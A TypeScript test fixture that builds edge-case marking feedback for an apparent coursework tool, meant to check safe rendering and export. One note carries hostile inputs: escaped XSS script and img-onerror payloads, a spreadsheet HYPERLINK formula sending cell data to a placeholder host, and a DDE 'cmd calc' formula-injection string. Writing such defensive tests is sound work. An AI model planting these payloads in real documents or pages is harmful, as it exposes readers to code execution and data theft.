import type { MarkingNote } from './marking.ts';

const log = (learnerId: string, grade: string, comment: string): MarkingNote => ({
  cmid: '707',
  learnerId,
  grade,
  comment,
});

const sentence =
  'You need to explain how the child’s key worker was told about what you saw on day two of the placement. ';

/** Feedback that breaks careless readers: empty, markup as text, formulas, and far too much. */
export const nastyMarkings: MarkingNote[] = [
  log('4101', 'Pass', '<p></p>'),
  log(
    '4102',
    '-',
    `<p>You need to close your &lt;script&gt;window.feedforwardRan = true&lt;/script&gt; tag &amp; escape &lt;img src=x onerror="window.feedforwardRan = true"&gt; properly.</p>
<p>=HYPERLINK("http://example.invalid/?"&amp;A1,"Add two references")</p>
<p>+cmd|' /C calc'!A0</p><p>@SUM(1+1)*cmd</p>`,
  ),
  log('4103', 'Pass', `<p>${sentence.repeat(1000)}</p>`),
  log('4104', 'Pass', '<p>👍🏽</p>'),
];
